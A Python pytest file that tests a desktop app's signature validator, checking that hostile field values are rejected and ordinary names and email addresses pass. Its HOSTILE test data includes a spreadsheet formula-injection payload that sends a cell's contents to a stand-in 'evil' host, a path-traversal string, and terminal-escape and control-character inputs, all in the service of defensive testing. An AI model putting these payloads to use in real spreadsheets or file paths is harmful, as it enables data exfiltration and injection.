"""What a hostile device seals never reaches a list; what people type always does."""

from datetime import datetime

import msgspec
import pytest

from desktop_app.signature.reading import SignatureUnreadable, is_sane, read_signature
from desktop_app.signature.signature import PaperLine, Signature, signature_bytes
from tests.making import draft, signature
from tests.signature.test_fields import NAMES

DRAWN = bytes([1, 100, 1, 2, 2, 2, 4, 4])
HOSTILE: dict[str, object] = {
    "given_name": "",
    "family_name": "a\u202eb",
    "email": '=HYPERLINK("http://evil/?"&A1,"x")',
    "country": "D" * 200_000,
    "phone": "+49 x",
    "postcode": "1\r\n2",
    "language": "en\n",
    "place": "\x1b[2J",
    "shift": "x" * 201,
    "withdrawal_code": "../../etc",
    "signed_at": datetime(2026, 11, 23),  # an instant without a zone is none
    "idea": "a\nb",
    "drawn": DRAWN + b"\x00",
    "paper": PaperLine(sheet="a\x00", row=1),
}


@pytest.mark.parametrize("field", HOSTILE)
def test_one_hostile_field_is_enough(field: str) -> None:
    made: Signature = msgspec.structs.replace(signature(), **{field: HOSTILE[field]})
    assert not is_sane(made)
    with pytest.raises(SignatureUnreadable) as caught:
        read_signature(signature_bytes(made))
    assert caught.value.__cause__ is None


@pytest.mark.parametrize("idea", ["x" * 281, " a", "a  b", "a\u202eb", "\x1b[31m"])
def test_ideas_that_nobody_could_have_typed(idea: str) -> None:
    assert not is_sane(msgspec.structs.replace(signature(), idea=idea))


def test_only_an_idea_may_come_without_a_name() -> None:
    nameless: Signature = msgspec.structs.replace(signature(), given_name="", family_name="")
    assert not is_sane(nameless)
    assert is_sane(msgspec.structs.replace(nameless, idea="x" * 280))


def test_what_a_flag_holds_must_be_a_flag() -> None:
    plain = msgspec.to_builtins(signature(), builtin_types=(bytes, datetime))
    with pytest.raises(SignatureUnreadable):
        read_signature(msgspec.msgpack.encode({**plain, "was_quick": "yes"}))


class SignatureOfOld(msgspec.Struct):
    """What 0.1.0 knows of a signature."""

    v: int
    given_name: str


def test_an_older_reader_passes_over_what_it_does_not_know() -> None:
    made: Signature = msgspec.structs.replace(
        signature(), idea="More trees", drawn=DRAWN, was_quick=True
    )
    old = msgspec.msgpack.decode(signature_bytes(made), type=SignatureOfOld)
    assert (old.v, old.given_name) == (1, "Marta")
    assert read_signature(signature_bytes(made)) == made


def test_an_ordinary_signature_has_the_bytes_that_it_always_had() -> None:
    entries = msgspec.msgpack.decode(signature_bytes(signature()))
    assert not {"idea", "drawn", "was_quick"} & set(entries)


@pytest.mark.parametrize("name", ["x" * 81, "a\r\nb", "\x1b[31m", " a", "a  b", "a\ud800"[:1] * 90])
def test_names_that_nobody_could_have_typed(name: str) -> None:
    assert not is_sane(msgspec.structs.replace(signature(), given_name=name))


@pytest.mark.parametrize("name", NAMES)
def test_every_name_that_can_be_typed_is_sane(name: str) -> None:
    assert is_sane(signature(draft(name, name)))


@pytest.mark.parametrize(
    "email",
    ["a@b.de", "o'brien+x=y@exämple.de", "=x@b.de", "Jörg@xn--exmple-cua.de", "a.b-c_d@e-f.co"],
)
def test_every_address_that_can_be_typed_is_sane(email: str) -> None:
    assert is_sane(signature(draft(email=email)))
